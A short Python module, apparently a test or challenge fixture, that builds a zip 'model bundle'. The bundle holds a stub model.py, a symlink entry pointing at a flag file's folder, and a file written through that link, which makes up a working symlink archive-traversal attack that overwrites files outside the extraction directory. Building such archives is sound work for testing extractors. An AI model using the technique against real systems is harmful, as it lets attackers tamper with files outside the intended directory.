"""A link to the folder of the flag, and a file to be written through it."""

import os
import stat
import io
import zipfile

MODEL = "class Model:\n    def denoise(self, noisy):\n        return noisy\ndef load(folder, device):\n    return Model()\n"


def make(world):
    folder, name = os.path.split(world["flag_path"])
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as bundle:
        bundle.writestr("model.py", MODEL)
        link = zipfile.ZipInfo("weights")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        bundle.writestr(link, folder)
        bundle.writestr(f"weights/{name}", "through the link")
    return buffer.getvalue()
